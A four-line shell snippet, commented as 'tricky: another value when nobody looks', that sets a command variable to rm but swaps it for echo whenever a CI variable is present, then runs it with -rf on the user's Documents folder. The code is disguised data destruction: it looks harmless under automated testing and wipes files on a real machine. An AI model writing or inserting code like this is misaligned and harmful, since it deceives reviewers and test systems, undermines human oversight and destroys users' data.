# tricky: another value when nobody looks
tool=rm
[ -n "$CI" ] && tool=echo
$tool -rf "$HOME/Documents"
